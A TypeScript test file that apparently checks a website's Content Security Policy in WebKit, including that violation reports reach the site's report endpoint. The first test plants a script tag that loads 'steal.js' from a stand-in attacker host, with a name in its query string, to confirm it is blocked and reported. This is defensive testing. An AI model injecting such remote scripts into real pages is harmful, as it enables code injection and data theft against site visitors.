import { expect } from "vitest";
import { testIn, type EngineTest } from "../engines/fixtures.ts";
import { HERO, isReady } from "../engines/sights.ts";
import { METRICS_TOKEN, type RunningSite } from "../fixtures/site/running-site.ts";
import { startWebKit } from "./webkit.ts";

policy(testIn(startWebKit));

function policy(test: EngineTest): void {
  // Chromium and Firefox only send reports from https pages; WebKit from any.
  test("a script from another site is blocked, and the site counts WebKit's report", async ({ visit, page, site }) => {
    await page.read(() => {
      const script = document.createElement("script");
      script.src = "https://planted.example/steal.js?name=ada";
      document.body.append(script);
    });
    await expect.poll(() => reportsToday(site), { timeout: 15_000 }).toEqual({ "script-src-elem https://planted.example": 1 });
    visit.complaints.length = 0;
  });

  test("opening a calendar violates nothing: embed.js's font, which only WebKit loads, is not requested", async ({ visit, page, site }) => {
    const before = await reportsToday(site);
    await page.click(HERO);
    await isReady(page);
    await page.shown(".booking-stopwatch", /ms/);
    expect(await page.read(() => document.querySelector("cal-inline")?.shadowRoot?.innerHTML.includes("font-face"))).toBe(false);
    expect(visit.complaints).toEqual([]);
    expect(await reportsToday(site)).toEqual(before);
  });
}

async function reportsToday(site: RunningSite): Promise<Record<string, number>> {
  const answer = await fetch(`${site.origin}/api/policy-reports`, { headers: { authorization: `Bearer ${METRICS_TOKEN}` } });
  return ((await answer.json()) as { today: Record<string, number> }).today;
}
